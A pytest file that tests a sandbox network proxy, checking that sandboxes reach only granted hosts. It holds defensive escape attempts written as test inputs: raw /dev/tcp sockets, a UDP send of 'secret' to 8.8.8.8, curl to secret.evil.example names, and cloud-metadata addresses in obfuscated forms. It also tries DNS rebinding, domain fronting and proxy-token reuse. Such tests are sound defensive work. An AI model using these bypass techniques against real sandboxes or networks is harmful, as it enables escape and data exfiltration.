"""Networks of sandboxes on this machine, with a small internet around the proxy: what an
environment grants works, and nothing else does. No packet leaves the machine: the proxy is in a
network namespace of its own.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import zipfile
from contextlib import closing, suppress
from pathlib import Path
from threading import Thread

import pytest

from freehold.adapters.egress import LaptopEgress
from freehold.adapters.egress.laptop import proxy_command
from freehold.adapters.local_secrets import LocalSecrets
from freehold.adapters.subprocess_sandbox import SubprocessSandboxes
from freehold.errors import SandboxLost
from freehold.ports import Network
from freehold.testing.sandbox_calls import (
    bash,
    eventually,
    failed,
    finish,
    new_sandbox,
    run,
    said,
    text_of,
)
from tests.egress import authority
from tests.egress_town import METADATA, OWN, PRIVATE, PUBLIC, REBOUND

TOWN = Path(__file__).parents[1] / "egress_town.py"
UNSHARE = ["unshare", "--net", "--mount", "--propagation", "private"]
if os.geteuid() != 0:
    UNSHARE += ["--user", "--map-root-user"]
OK = Network(hosts=("ok.example", REBOUND))
VARIABLES = "HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy"
WITHOUT = "env " + " ".join(f"-u {name}" for name in VARIABLES.split())


class Town:
    """Sandboxes, each with the network it was made for, and what its servers have noted."""

    def __init__(self, directory, **given):
        self.directory = directory
        secrets = LocalSecrets(directory / "secret.key")
        command = [*UNSHARE, sys.executable, "-I", "-S", str(TOWN), str(directory)]
        self.networks = {}
        self.egress = LaptopEgress(
            directory / "egress",
            secrets,
            package_hosts=("packages.example", "files.example"),
            command=[*command, *proxy_command()],
        )
        self.sandboxes = SubprocessSandboxes(
            directory,
            secrets,
            "bubblewrap",
            egress=self.egress,
            network_of=lambda sandbox: self.networks[sandbox.session_id],
            **given,
        )

    def sandbox(self, network):
        made = new_sandbox()
        self.networks[made.session_id] = network
        return made

    def noted(self, name):
        path = self.directory / name
        return path.read_text().split() if path.exists() else []

    def said(self, sandbox, command):
        return said(self.sandboxes, sandbox, bash(command))

    def failed(self, sandbox, command):
        return failed(self.sandboxes, sandbox, bash(command))


def has_namespaces():
    if not shutil.which("ip") or not shutil.which("unshare"):
        return False
    return subprocess.run([*UNSHARE, "true"], check=False, capture_output=True).returncode == 0


@pytest.fixture(scope="module")
def town(tmp_path_factory):
    if not has_namespaces():
        pytest.skip("needs unshare, ip and network namespaces")
    directory = tmp_path_factory.mktemp("town")
    directory.chmod(0o755)
    authority(directory, "packages.example", "files.example", "ok.example")
    sample_wheel(directory)
    made = Town(directory)
    with closing(made.sandboxes):
        probe = made.sandboxes.usable()
        if probe.rung is None:
            pytest.skip(probe.advice)
        assert probe.no_network == ""
        yield made


def sample_wheel(directory):
    """A package whose import says that it is here."""
    name = "freehold_sample-1.0"
    with zipfile.ZipFile(directory / f"{name}-py3-none-any.whl", "w") as wheel:
        wheel.writestr("freehold_sample.py", "words = 'installed through the proxy'\n")
        about = f"{name}.dist-info"
        wheel.writestr(f"{about}/METADATA", "Name: freehold-sample\nVersion: 1.0\n")
        wheel.writestr(
            f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{about}/RECORD", "")


@pytest.fixture
def sandbox(town):
    made = town.sandbox(OK)
    yield made
    town.sandboxes.remove(made)


# ---------------------------------------------------------------- what an environment grants
INSTALL = (
    "cd /workspace && python3 -m pip --disable-pip-version-check install --no-cache-dir --retries 1"
    " --cert ca.pem --target lib --index-url https://packages.example/simple freehold-sample"
)


@pytest.mark.parametrize("managers", [True, False])
def test_pip_installs_where_the_environment_allows_package_managers(town, managers):
    sandbox = town.sandbox(Network(hosts=(), package_managers=managers))
    town.sandboxes.boot(sandbox)
    workspace = town.directory / "workspaces" / sandbox.session_id
    shutil.copy(town.directory / "ca.pem", workspace / "ca.pem")
    if run(town.sandboxes, sandbox, bash("python3 -m pip --version")).is_error:
        pytest.skip("the sandbox's Python has no pip")
    if managers:
        town.said(sandbox, INSTALL)
        words = "PYTHONPATH=lib python3 -c 'import freehold_sample as s; print(s.words)'"
        assert town.said(sandbox, words) == "installed through the proxy"
    else:
        text = town.failed(sandbox, INSTALL)
        assert "403 Forbidden by the environment: packages.example" in text
    town.sandboxes.remove(sandbox)


def test_what_is_listed_is_reached_and_what_is_not_is_a_403_that_names_it(town, sandbox):
    assert town.said(sandbox, "curl -sS http://ok.example/file") == "served"
    shutil.copy(
        town.directory / "ca.pem", town.directory / "workspaces" / sandbox.session_id / "ca.pem"
    )
    assert town.said(sandbox, "curl -sS --cacert ca.pem https://ok.example/") == "served"
    text = town.said(sandbox, "curl -sS -i http://packages.example/")
    assert "HTTP/1.1 403 " in text
    assert "x-freehold-egress: refused" in text
    assert "does not reach packages.example" in text
    assert "403" in town.failed(sandbox, "curl -sS https://packages.example/")


def test_an_unrestricted_sandbox_reaches_every_public_host(town):
    sandbox = town.sandbox(Network(hosts=None))
    assert town.said(sandbox, "curl -sS http://packages.example/") == "served"
    assert town.said(sandbox, f"curl -sS http://{PUBLIC}/") == "served"
    town.sandboxes.remove(sandbox)


def test_threads_of_a_session_share_its_loopback(town, sandbox):
    serve = "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
    wait = "until curl -s -o /dev/null http://127.0.0.1:8000/; do sleep 0.05; done; echo up"
    run(town.sandboxes, sandbox, bash(serve, thread_id="sthr_left"))
    made = bash(wait, thread_id="sthr_right")
    boot_id = town.sandboxes.boot(sandbox)
    assert text_of(finish(town.sandboxes, sandbox, boot_id, made)) == "up"


# ---------------------------------------------------------------- ways around
def test_without_the_proxy_there_is_no_way_out(town, sandbox):
    for address in (PUBLIC, PRIVATE, METADATA, "8.8.8.8", "127.0.0.1"):
        town.failed(sandbox, f"{WITHOUT} curl -sS -m 5 http://{address}/")
        town.failed(sandbox, f"timeout 5 bash -c 'exec 3<>/dev/tcp/{address}/443'")
    town.failed(sandbox, f"{WITHOUT} curl -sS -m 5 http://ok.example/")
    ask = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))"
    town.failed(sandbox, f'python3 -c "import socket; {ask}"')
    assert town.noted("trespassers") == []


def test_what_is_refused_is_not_even_resolved(town, sandbox):
    for place in ("https://secret1.evil.example/", "http://secret2.evil.example/"):
        run(town.sandboxes, sandbox, bash(f"curl -sS {place}"))
        run(town.sandboxes, sandbox, bash(f"{WITHOUT} curl -sS {place}"))
    town.failed(sandbox, "getent hosts secret3.evil.example")
    assert not [name for name in town.noted("names") if "secret" in name]


@pytest.mark.parametrize(
    "host",
    [
        "inside.example",
        "credentials.example",
        "own.example",
        OWN,
        PRIVATE,
        METADATA,
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:169.254.169.254]",
        "2852039166",
        "0xa9fea9fe",
    ],
)
def test_what_is_not_public_is_not_reached_by_an_unrestricted_sandbox(town, host):
    sandbox = town.sandbox(Network(hosts=None))
    command = f"curl -sS -o /dev/null -w '%{{http_code}}' --noproxy '' http://{host}/"
    assert town.said(sandbox, command) in ("400", "403", "502")
    town.failed(sandbox, f"curl -sS -k --noproxy '' https://{host}/")
    assert town.noted("trespassers") == []
    town.sandboxes.remove(sandbox)


def test_a_redirect_leads_nowhere_else(town, sandbox):
    text = town.said(sandbox, "curl -sS -L -i http://ok.example/away")
    assert "302 Found" in text
    assert f"403 Forbidden by the environment: {METADATA}" in text


def test_a_name_that_is_rebound_is_looked_at_each_time(town, sandbox):
    command = f"curl -sS -o /dev/null -w '%{{http_code}}' http://{REBOUND}/"
    assert town.said(sandbox, command) == "200"
    assert town.said(sandbox, command) == "403"
    assert town.noted("trespassers") == []


def test_ports_other_than_80_and_443(town, sandbox):
    for place in ("http://ok.example:8080/", "http://ok.example:22/"):
        assert "403" in town.said(sandbox, f"curl -sS -i {place}")
    assert "403" in town.failed(sandbox, "curl -sS https://ok.example:8443/")
    assert "403" in town.failed(sandbox, "curl -sS -p http://ok.example:80/")


def test_another_host_in_the_handshake_than_in_connect(town, sandbox):
    """Fronting: the tunnel is for the listed host, the handshake for another of the same server."""
    code = "curl -sS -k --connect-to packages.example:443:ok.example:443 https://packages.example/"
    assert "unrecognized name" in town.failed(sandbox, code)


def test_another_sessions_token_and_socket(town, sandbox):
    other = town.sandbox(Network(hosts=None))
    theirs = town.said(other, "echo $HTTP_PROXY")
    assert theirs != town.said(sandbox, "echo $HTTP_PROXY")
    text = town.said(sandbox, f"curl -sS -i -x {theirs} http://packages.example/")
    assert text.startswith("HTTP/1.1 407 ")
    town.failed(sandbox, f"ls {town.directory}/egress")
    assert town.said(sandbox, "find / -xdev -type s 2>/dev/null | wc -l") == "0"
    town.sandboxes.remove(other)


def test_a_token_ends_with_its_boot(town):
    sandbox = town.sandbox(OK)
    first = town.said(sandbox, "echo $HTTP_PROXY")
    _kill_supervisor(sandbox)
    eventually(lambda: _boots_anew(town, sandbox))
    assert town.said(sandbox, "echo $HTTP_PROXY") != first
    assert town.said(sandbox, f"curl -sS -i -x {first} http://ok.example/")[:12] == "HTTP/1.1 407"
    assert town.said(sandbox, "curl -sS http://ok.example/") == "served"
    town.sandboxes.remove(sandbox)


def _kill_supervisor(sandbox):
    """Of the processes that name the session, the one the others are in."""
    for entry in Path("/proc").iterdir():
        with suppress(OSError):
            if entry.name.isdigit() and int(entry.name) != os.getpid():
                command = (entry / "cmdline").read_bytes()
                if sandbox.session_id.encode() in command and b"sandbox_task" in command:
                    os.kill(int(entry.name), signal.SIGKILL)
                    return
    raise AssertionError("no supervisor")


def _boots_anew(town, sandbox):
    try:
        return run(town.sandboxes, sandbox, bash("true")).is_error is False
    except SandboxLost:
        return False


# ---------------------------------------------------------------- the proxy dies
def test_a_killed_proxy_fails_the_call_that_used_it_and_serves_the_next(town, sandbox):
    boot_id = town.sandboxes.boot(sandbox)
    before = len(town.noted("begun"))
    made = bash("curl -sS -m 60 http://ok.example/endless -o /dev/null")
    results = []
    call = Thread(target=lambda: results.append(finish(town.sandboxes, sandbox, boot_id, made)))
    call.start()
    eventually(lambda: len(town.noted("begun")) > before)
    os.kill(town.egress.process_id, signal.SIGKILL)
    call.join(30)
    assert results[0].is_error
    eventually(
        lambda: (
            text_of(run(town.sandboxes, sandbox, bash("curl -sS http://ok.example/"))) == "served"
        )
    )
    assert town.sandboxes.boot(sandbox) == boot_id
    assert "403" in town.said(sandbox, "curl -sS -i http://packages.example/")


# ---------------------------------------------------------------- what the server tries out
def test_a_server_that_starts_notes_no_refusal_of_its_own(tmp_path, capfd):
    """The proxy notes what it refuses on the server's standard error."""
    secrets = LocalSecrets(tmp_path / "secret.key")
    egress = LaptopEgress(tmp_path / "egress", secrets)
    with closing(SubprocessSandboxes(tmp_path, secrets, "bubblewrap", egress=egress)) as sandboxes:
        probe = sandboxes.usable()
        if probe.rung is None:
            pytest.skip(probe.advice)
        assert probe.no_network == ""
        assert capfd.readouterr().err == ""
        sandbox = new_sandbox()
        asked = "CONNECT ok.example:443 HTTP/1.1\\r\\nHost: ok.example\\r\\n\\r\\n"
        command = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{asked}' >&3; read -r line <&3"
        assert said(sandboxes, sandbox, bash(f"{command}; echo ${{line:9:3}}")) == "407"
        assert '"status": 407' in capfd.readouterr().err
        sandboxes.remove(sandbox)


# ---------------------------------------------------------------- without
def test_without_a_proxy_a_sandbox_has_no_relay_and_no_variables(tmp_path):
    secrets = LocalSecrets(tmp_path / "secret.key")
    broken = LaptopEgress(tmp_path / "egress", secrets, command=["false"])
    for egress, reason in ((None, "turned off"), (broken, "did not start")):
        with closing(
            SubprocessSandboxes(tmp_path, secrets, "bubblewrap", egress=egress)
        ) as sandboxes:
            probe = sandboxes.usable()
            if probe.rung is None:
                pytest.skip(probe.advice)
            assert reason in probe.no_network
            sandbox = new_sandbox()
            failed(sandboxes, sandbox, bash("env | grep -i proxy"))
            failed(sandboxes, sandbox, bash("exec 3<>/dev/tcp/127.0.0.1/3128"))
            sandboxes.remove(sandbox)


def test_the_proxy_ends_with_the_server_and_has_nothing_of_its_environment(tmp_path, monkeypatch):
    monkeypatch.setenv("FREEHOLD_API_KEY", "sesame-1")
    egress = LaptopEgress(tmp_path / "egress", LocalSecrets(tmp_path / "secret.key"))
    egress.open("sesn_a", Network())
    pid = egress.process_id
    assert Path(f"/proc/{pid}/environ").read_bytes() == b""
    status = Path(f"/proc/{pid}/status").read_text()
    if os.geteuid() == 0:
        assert "Uid:\t10002\t10002\t10002\t10002" in status
    egress.close()
    assert not Path(f"/proc/{pid}").exists()
    assert not (tmp_path / "egress").exists()
